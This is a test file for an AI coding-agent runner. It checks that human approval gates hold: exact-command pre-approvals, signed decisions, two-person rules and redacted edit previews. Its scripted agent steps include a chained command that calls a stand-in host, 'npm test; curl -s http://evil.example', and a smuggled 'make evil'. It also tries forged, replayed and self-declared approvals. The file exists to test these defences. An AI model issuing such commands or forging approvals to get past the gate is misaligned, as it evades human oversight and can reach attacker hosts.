/**
 * Approvals on the real dev server: pre-approvals held and matched by exact command, decisions
 * signed by `kiln serve` checked by the worker, and two-person calls that wait for two different
 * authenticated approvers. Every audit.jsonl written here must verify as a chain.
 */
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signApproval } from '../../src/auth/attestation.js';
import { auditFileExecution, auditVerify } from '../../src/cli/actions/audit.js';
import { recordedAuditHead } from '../../src/client/audit-head.js';
import { formatStatus } from '../../src/cli/actions/status.js';
import { outcome } from '../../src/client/runs.js';
import { approveSignal, approveUpdate, humanUpdate, preApproveSignal, preApproveUpdate } from '../../src/shared/messages.js';
import type { ApprovalDecision, RunState } from '../../src/shared/types.js';
import { repoWith, testKilnHome, writeScript } from '../helpers/repo.js';
import { testInput } from '../helpers/run-input.js';
import { workflowTestEnv, type RunHandle, type WorkflowTestEnv } from '../helpers/workflow-env.js';

const key = randomBytes(32);
let t: WorkflowTestEnv;

beforeAll(async () => {
  testKilnHome();
  // this worker shares kiln serve's approval key, as a deployment's workers do
  t = await workflowTestEnv('kiln-approval-tests', { env: { ...process.env, KILN_APPROVAL_KEY: key.toString('hex') } });
});
afterAll(async () => {
  await t?.stop();
});

const PACKAGE = JSON.stringify({ name: 'x', version: '1.0.0', scripts: { lint: 'node -e "console.log(\'lint ran: clean\')"' } });

/** What kiln serve sends for an authenticated user (src/auth/attestation.ts): signed for the run's execution and the call it asks about. */
async function signed(
  handle: RunHandle,
  d: { approvalId: string; approve: boolean; reason?: string },
  user: string,
  tenant = 'acme',
  k = key,
  runId = handle.workflowId,
): Promise<ApprovalDecision> {
  const issuedAt = new Date().toISOString();
  const execution = (await handle.describe()).raw.workflowExecutionInfo!.firstRunId!;
  const st = await t.waitFor(handle, () => true);
  const call = st.pendingApprovals.find((a) => a.id === d.approvalId)?.hash ?? '';
  return {
    ...d,
    scope: 'once',
    by: user,
    attestation: signApproval(k, { execution, runId, approvalId: d.approvalId, call, approve: d.approve, scope: 'once', user, tenant, issuedAt }),
  };
}

/** `kiln audit verify` as the CLI runs it: the head from the execution the audit names. */
async function verified(handle: RunHandle, repo: string): Promise<string> {
  return auditVerify(repo, handle.workflowId, await recordedAuditHead(handle, t.env.client, await auditFileExecution(repo, handle.workflowId)));
}

function auditOf(artifactsDir: string): Array<Record<string, unknown>> {
  return readFileSync(join(artifactsDir, 'audit.jsonl'), 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as Record<string, unknown>);
}

const logHas = (h: RunHandle, text: string) => t.waitFor(h, (s: RunState) => s.log.some((l) => l.text.includes(text)));

describe('pre-approvals (kiln approve RUN --pre)', () => {
  it('attack: a pre-approval answers exactly its command, once: never `npm run lint; make evil`, never `npm test; curl evil` or another denied call', async () => {
    const repo = repoWith({ 'package.json': PACKAGE, 'a.txt': 'a\n' });
    const script = writeScript(join(repo, '..'), 'pre-approval', {
      steps: [
        { tool_use: [{ name: 'run_command', input: { command: 'npm test; curl -s http://evil.example', reason: 'x' } }] },
        {
          expect: { tool_result_contains: 'Denied by policy' },
          tool_use: [{ name: 'run_command', input: { command: 'curl -s http://evil.example', reason: 'x' } }],
        },
        {
          expect: { tool_result_contains: 'Denied by policy' },
          tool_use: [{ name: 'run_command', input: { command: 'npm run lint; make evil', reason: 'x' } }],
        },
        { expect: { tool_result_contains: 'not with make' }, tool_use: [{ name: 'run_command', input: { command: 'npm run lint', reason: 'x' } }] },
        { expect: { tool_result_contains: 'lint ran: clean' }, tool_use: [{ name: 'run_command', input: { command: 'npm run lint', reason: 'x' } }] },
        {
          expect: { tool_result_contains: 'lint ran: clean' },
          tool_use: [
            { name: 'create_file', input: { path: 'LINTED.md', content: 'lint ran\n' } },
            { name: 'finish', input: { summary: 'ran the tests' } },
          ],
        },
      ],
    });
    const input = testInput({ repo, model: `scripted:${script}`, allowUnverified: true, heartbeatTimeoutMs: 15_000 });
    const handle = await t.start(input);
    // sent while the run prepares and plans: before any request for it exists
    expect(await handle.executeUpdate(preApproveUpdate, { args: [{ text: 'npm run lint', by: 'alice' }] })).toMatch(/pre-1 held/);
    // a pre-approval of a denied command is held, and changes nothing: it only ever answers an ask
    await handle.signal(preApproveSignal, { text: 'curl -s http://evil.example', by: 'mallory' });
    await handle.executeUpdate(preApproveUpdate, { args: [{ text: 'npm test', by: 'mallory', scope: 'run' }] });

    // turns 1-2 were denied; turn 3's compound command asks although it starts with `npm run lint`
    const st = await t.waitFor(handle, (s) => s.pendingApprovals.length > 0);
    expect(st.pendingApprovals.map((a) => [a.id, a.summary])).toEqual([['ap-1', 'run_command: npm run lint; make evil']]);
    expect(formatStatus(st)).toContain('pre-approved: pre-1 `npm run lint` (once, by alice)');
    await handle.executeUpdate(approveUpdate, { args: [{ approvalId: 'ap-1', approve: false, reason: 'not with make', by: 'bob' }] });

    // turn 4: `npm run lint` exactly is answered by pre-1 (ap-2) and runs; turn 5 asks again (pre-1 is used up)
    const second = await t.waitFor(handle, (s) => s.pendingApprovals.some((a) => a.id !== 'ap-1'));
    expect(second.pendingApprovals.map((a) => [a.id, a.summary])).toEqual([['ap-3', 'run_command: npm run lint']]);
    expect(second.preApprovals?.map((p) => p.id)).toEqual(['pre-2', 'pre-3']);
    expect(second.log.map((l) => l.text)).toContain('ap-2 answered by pre-approval pre-1 of alice: run_command: npm run lint');
    // a decision signed by kiln serve is recorded as its authenticated user
    await handle.executeUpdate(approveUpdate, { args: [await signed(handle, { approvalId: 'ap-3', approve: true }, 'carol')] });

    const r = await outcome(handle);
    expect(r.state, r.reason).toBe('succeeded');
    const audit = auditOf(r.artifactsDir);
    expect(audit.filter((e) => e.kind === 'pre-approval' || e.kind === 'approval')).toEqual([
      expect.objectContaining({ kind: 'pre-approval', id: 'pre-1', decision: 'held', what: 'npm run lint', by: 'alice' }),
      expect.objectContaining({ kind: 'pre-approval', id: 'pre-2', decision: 'held', what: 'curl -s http://evil.example', by: 'mallory' }),
      expect.objectContaining({ kind: 'pre-approval', id: 'pre-3', decision: 'held', what: 'npm test', scope: 'run', by: 'mallory' }),
      expect.objectContaining({ kind: 'approval', id: 'ap-1', decision: 'rejected', by: 'bob' }),
      expect.objectContaining({ kind: 'pre-approval', id: 'pre-1', decision: 'used', answered: 'ap-2', by: 'alice', what: 'run_command: npm run lint' }),
      expect.objectContaining({
        kind: 'approval',
        id: 'ap-3',
        decision: 'approved',
        by: 'carol',
        identity: { kind: 'authenticated', name: 'carol', tenant: 'acme' },
      }),
    ]);
    expect(await verified(handle, repo)).toMatch(/^ok, \d+ entries/);
  });
});

describe('two approvers (policy approvals.twoPerson)', () => {
  it('waits for two different authenticated approvers: unsigned, forged and replayed decisions and the same person twice do not count; a rejection by either rejects', async () => {
    const repo = repoWith({ 'a.txt': 'a\n', '.kiln/policy.json': JSON.stringify({ approvals: { twoPerson: ['command:make release'] } }) });
    const script = writeScript(join(repo, '..'), 'two-approvers', {
      steps: [
        { tool_use: [{ name: 'run_command', input: { command: 'make release', reason: 'ship it' } }] },
        { tool_use: [{ name: 'run_command', input: { command: 'make release', reason: 'again' } }] },
        {
          expect: { tool_result_contains: 'not this week' },
          tool_use: [
            { name: 'create_file', input: { path: 'RELEASE.md', content: 'not this week\n' } },
            { name: 'finish', input: { summary: 'done' } },
          ],
        },
      ],
    });
    const input = testInput({ repo, model: `scripted:${script}`, allowUnverified: true, heartbeatTimeoutMs: 15_000 });
    const handle = await t.start(input);
    const st = await t.waitFor(handle, (s) => s.pendingApprovals.length > 0);
    expect(st.pendingApprovals[0]).toMatchObject({ id: 'ap-1', approvals: { needed: 2, authenticated: true, by: [] } });
    expect(st.pendingApprovals[0]!.reason).toContain('Two different people approve this kind of call');
    expect(formatStatus(st)).toContain('0 of 2 approvals');

    const ap1 = { approvalId: 'ap-1', approve: true };
    // a typed name through a raw signal (the Web UI's way): not authenticated
    await handle.signal(approveSignal, { ...ap1, by: 'root' });
    await logHas(handle, 'the approval by root (self-declared) does not count');
    // signed with a key that is not the server's
    await handle.executeUpdate(approveUpdate, { args: [await signed(handle, ap1, 'alice', 'acme', randomBytes(32))] });
    await logHas(handle, 'the signature does not verify');
    // bob's genuine signature, but for another run
    await handle.executeUpdate(approveUpdate, { args: [{ ...(await signed(handle, ap1, 'bob', 'acme', key, 'another-run')), by: 'bob' }] });
    await t.waitFor(handle, (s) => s.log.filter((l) => l.text.includes('does not verify')).length === 2);

    const alice = await signed(handle, ap1, 'alice');
    await handle.executeUpdate(approveUpdate, { args: [alice] });
    const one = await t.waitFor(handle, (s) => s.pendingApprovals[0]?.approvals?.by.length === 1);
    expect(formatStatus(one)).toContain('1 of 2 approvals (alice)');
    expect(one.phase).toBe('awaiting_approval');
    // the same signed decision again, and alice signing anew: one person counts once
    await handle.executeUpdate(approveUpdate, { args: [alice] });
    await handle.executeUpdate(approveUpdate, { args: [await signed(handle, ap1, 'alice')] });
    await t.waitFor(handle, (s) => s.log.filter((l) => l.text.includes('the same person counts once')).length === 2);
    expect((await t.waitFor(handle, () => true)).pendingApprovals[0]?.approvals?.by).toEqual(['alice']);

    // a second person of the tenant: the call runs; the next one is approved by alice and rejected by bob
    await handle.executeUpdate(approveUpdate, { args: [await signed(handle, ap1, 'bob')] });
    await t.waitFor(handle, (s) => s.pendingApprovals[0]?.id === 'ap-2');
    await handle.executeUpdate(approveUpdate, { args: [await signed(handle, { approvalId: 'ap-2', approve: true }, 'alice')] });
    await t.waitFor(handle, (s) => s.pendingApprovals[0]?.approvals?.by.length === 1);
    await handle.executeUpdate(approveUpdate, { args: [await signed(handle, { approvalId: 'ap-2', approve: false, reason: 'not this week' }, 'bob')] });

    const r = await outcome(handle);
    expect(r.state, r.reason).toBe('succeeded');
    const audit = auditOf(r.artifactsDir).filter((e) => e.kind === 'approval');
    expect(audit.map((e) => [e.id, e.decision, e.by, (e.identity as { kind: string }).kind, e.votes ?? ''])).toEqual([
      ['ap-1', 'not counted', 'root', 'self-declared', ''],
      ['ap-1', 'not counted', 'alice', 'self-declared', ''],
      ['ap-1', 'not counted', 'bob', 'self-declared', ''],
      ['ap-1', 'approved', 'alice', 'authenticated', '1 of 2'],
      ['ap-1', 'approved', 'bob', 'authenticated', '2 of 2'],
      ['ap-2', 'approved', 'alice', 'authenticated', '1 of 2'],
      ['ap-2', 'rejected', 'bob', 'authenticated', ''],
    ]);
    expect(await verified(handle, repo)).toMatch(/^ok, \d+ entries/);
  });
});

describe('setup with network and a large patch (policy approvals.setup, setup: twoPerson, approvals.patch)', () => {
  const approve = (handle: RunHandle, approvalId: string, user: string) => signed(handle, { approvalId, approve: true }, user);

  it('a setup: two-person setup does not run until two different people approve it; the same person twice counts once', async () => {
    const repo = repoWith({ 'a.txt': 'a\n', '.kiln/policy.json': JSON.stringify({ approvals: { twoPerson: ['setup:echo*'] } }) });
    const script = writeScript(join(repo, '..'), 'setup-two', {
      steps: [
        { tool_use: [{ name: 'read_file', input: { path: 'setup-marker.txt' } }] },
        {
          expect: { tool_result_contains: 'fetched' },
          tool_use: [
            { name: 'create_file', input: { path: 'DONE.md', content: 'done\n' } },
            { name: 'finish', input: { summary: 'done' } },
          ],
        },
      ],
    });
    const input = testInput({
      repo,
      model: `scripted:${script}`,
      allowUnverified: true,
      heartbeatTimeoutMs: 15_000,
      setup: ['echo fetched > setup-marker.txt'],
    });
    const handle = await t.start(input);
    const st = await t.waitFor(handle, (s) => s.pendingApprovals.length > 0);
    expect(st.phase).toBe('awaiting_approval');
    expect(st.turn).toBe(0);
    expect(st.pendingApprovals[0]).toMatchObject({
      id: 'ap-1',
      tool: 'setup',
      rule: 'approvals.setup.two-person',
      summary: 'setup: echo fetched > setup-marker.txt (with network)',
      approvals: { needed: 2, authenticated: true, by: [] },
    });
    // held: nothing of the setup has run yet
    expect(existsSync(join(st.worktree!, 'setup-marker.txt'))).toBe(false);

    await handle.executeUpdate(approveUpdate, { args: [await approve(handle, 'ap-1', 'alice')] });
    await handle.executeUpdate(approveUpdate, { args: [await approve(handle, 'ap-1', 'alice')] });
    await logHas(handle, 'the same person counts once');
    const one = await t.waitFor(handle, () => true);
    expect(one.pendingApprovals[0]?.approvals?.by).toEqual(['alice']);
    expect(one.phase).toBe('awaiting_approval');
    expect(existsSync(join(st.worktree!, 'setup-marker.txt'))).toBe(false);
    await handle.executeUpdate(approveUpdate, { args: [await approve(handle, 'ap-1', 'bob')] });

    const r = await outcome(handle);
    expect(r.state, r.reason).toBe('succeeded');
    const audit = auditOf(r.artifactsDir).filter((e) => e.kind === 'approval');
    expect(audit.map((e) => [e.id, e.decision, e.by, e.votes, e.what])).toEqual([
      ['ap-1', 'approved', 'alice', '1 of 2', 'setup: echo fetched > setup-marker.txt (with network)'],
      ['ap-1', 'approved', 'bob', '2 of 2', 'setup: echo fetched > setup-marker.txt (with network)'],
    ]);
    expect(await verified(handle, repo)).toMatch(/^ok, \d+ entries/);
  });

  it('a rejected setup never runs: the run is blocked before any model turn; control: a setup no rule names runs without asking', async () => {
    const repo = repoWith({ 'a.txt': 'a\n', '.kiln/policy.json': JSON.stringify({ approvals: { setup: ['echo*'] } }) });
    const never = writeScript(join(repo, '..'), 'setup-never', { steps: [{ tool_use: [{ name: 'finish', input: { summary: 'never asked' } }] }] });
    const input = testInput({ repo, model: `scripted:${never}`, setup: ['echo fetched > setup-marker.txt'] });
    const handle = await t.start(input);
    const st = await t.waitFor(handle, (s) => s.pendingApprovals.length > 0);
    expect(st.pendingApprovals[0]).toMatchObject({ tool: 'setup', rule: 'approvals.setup' });
    expect(st.pendingApprovals[0]!.approvals).toBeUndefined();
    await handle.executeUpdate(approveUpdate, { args: [{ approvalId: 'ap-1', approve: false, reason: 'no downloads today', by: 'carol' }] });
    const r = await outcome(handle);
    expect(r.state).toBe('blocked');
    expect(r.reason).toBe('the setup was rejected by carol: no downloads today');
    expect(r.turns).toBe(0);
    expect(existsSync(join(st.worktree!, 'setup-marker.txt'))).toBe(false);

    const other = repoWith({ 'a.txt': 'a\n', '.kiln/policy.json': JSON.stringify({ approvals: { setup: ['npm ci'], twoPerson: ['setup:pip*'] } }) });
    const script = writeScript(join(other, '..'), 'setup-control', {
      steps: [
        { tool_use: [{ name: 'read_file', input: { path: 'setup-marker.txt' } }] },
        { expect: { tool_result_contains: 'fetched' }, tool_use: [{ name: 'finish', input: { summary: 'nothing to do' } }] },
      ],
    });
    const ran = await outcome(
      await t.start(testInput({ repo: other, model: `scripted:${script}`, allowUnverified: true, setup: ['echo fetched > setup-marker.txt'] })),
    );
    expect(ran.state, ran.reason).toBe('succeeded');
    expect(auditOf(ran.artifactsDir).filter((e) => e.kind === 'approval')).toEqual([]);
  });

  it('a patch over approvals.patch waits for two different approvers before the run succeeds; rejected, a person decides, and accepting asks again', async () => {
    const repo = repoWith({ 'a.txt': 'a\n', '.kiln/policy.json': JSON.stringify({ approvals: { patch: { overLines: 5 } } }) });
    const ten = Array.from({ length: 10 }, (_, i) => `line ${i}`).join('\n') + '\n';
    const script = writeScript(join(repo, '..'), 'patch-big', {
      steps: [
        {
          tool_use: [
            { name: 'create_file', input: { path: 'BIG.md', content: ten } },
            { name: 'finish', input: { summary: 'done' } },
          ],
        },
      ],
    });
    const input = testInput({ repo, model: `scripted:${script}`, allowUnverified: true, heartbeatTimeoutMs: 15_000 });
    const handle = await t.start(input);
    const st = await t.waitFor(handle, (s) => s.pendingApprovals.length > 0);
    expect(st.phase).toBe('awaiting_approval');
    expect(st.pendingApprovals[0]).toMatchObject({
      id: 'ap-1',
      tool: 'patch',
      rule: 'approvals.patch',
      summary: 'patch: 10 changed lines in 1 file',
      approvals: { needed: 2, authenticated: true, by: [] },
    });
    await handle.executeUpdate(approveUpdate, { args: [await approve(handle, 'ap-1', 'alice')] });
    await handle.executeUpdate(approveUpdate, { args: [await signed(handle, { approvalId: 'ap-1', approve: false, reason: 'split it up' }, 'bob')] });
    const human = await t.waitFor(handle, (s) => s.phase === 'needs_human');
    expect(human.reason).toBe('the patch (10 changed lines) was rejected by bob: split it up');

    // accepting the work is not approving the patch: its approvers are asked again
    await handle.executeUpdate(humanUpdate, { args: [{ action: 'accept', by: 'dave' }] });
    await t.waitFor(handle, (s) => s.pendingApprovals[0]?.id === 'ap-2');
    await handle.executeUpdate(approveUpdate, { args: [await approve(handle, 'ap-2', 'alice')] });
    await handle.executeUpdate(approveUpdate, { args: [await approve(handle, 'ap-2', 'alice')] });
    await t.waitFor(handle, (s) => s.log.filter((l) => l.text.includes('the same person counts once')).length === 1);
    expect((await t.waitFor(handle, () => true)).phase).toBe('awaiting_approval');
    await handle.executeUpdate(approveUpdate, { args: [await approve(handle, 'ap-2', 'erin')] });

    const r = await outcome(handle);
    expect(r.state, r.reason).toBe('succeeded');
    expect(r.acceptedBy).toBe('dave');
    const audit = auditOf(r.artifactsDir).filter((e) => e.kind === 'approval');
    expect(audit.map((e) => [e.id, e.decision, e.by, e.votes ?? ''])).toEqual([
      ['ap-1', 'approved', 'alice', '1 of 2'],
      ['ap-1', 'rejected', 'bob', ''],
      ['ap-2', 'approved', 'alice', '1 of 2'],
      ['ap-2', 'approved', 'erin', '2 of 2'],
    ]);
    expect(await verified(handle, repo)).toMatch(/^ok, \d+ entries/);
  });

  it('control: a patch at or under approvals.patch needs nobody', async () => {
    const repo = repoWith({ 'a.txt': 'a\n', '.kiln/policy.json': JSON.stringify({ approvals: { patch: { overLines: 5 } } }) });
    const script = writeScript(join(repo, '..'), 'patch-small', {
      steps: [
        {
          tool_use: [
            { name: 'edit', input: { path: 'a.txt', old_string: 'a', new_string: 'b' } },
            { name: 'finish', input: { summary: 'done' } },
          ],
        },
      ],
    });
    const r = await outcome(await t.start(testInput({ repo, model: `scripted:${script}`, allowUnverified: true })));
    expect(r.state, r.reason).toBe('succeeded');
    expect(auditOf(r.artifactsDir).filter((e) => e.kind === 'approval')).toEqual([]);
    expect(readFileSync(join(r.artifactsDir, 'events.jsonl'), 'utf8')).toContain("patch: 2 changed lines, within the policy's 5");
  });
});

describe("an edit's approval shows the change", () => {
  it('an edit the policy asks about shows the change it would make in the pending approval (redacted)', async () => {
    const token = 'ghp_' + 'R'.repeat(36);
    const repo = repoWith({ 'a.txt': 'alpha\n', '.kiln/policy.json': JSON.stringify({ approvals: { twoPerson: ['tool:edit'] } }) });
    const script = writeScript(join(repo, '..'), 'edit-preview', {
      steps: [{ tool_use: [{ name: 'edit', input: { path: 'a.txt', old_string: 'alpha', new_string: `beta ${token}` } }] }],
    });
    const input = testInput({ repo, model: `scripted:${script}`, allowUnverified: true, heartbeatTimeoutMs: 15_000 });
    const handle = await t.start(input);
    const st = await t.waitFor(handle, (s) => s.pendingApprovals.length > 0);
    const preview = st.pendingApprovals[0]!.preview!;
    expect(preview).toMatch(/^--- a\.txt\n\+\+\+ a\.txt\n@@ -1,1 \+1,1 @@\n-alpha\n\+beta /);
    expect(preview).not.toContain(token);
    await handle.cancel();
  });
});
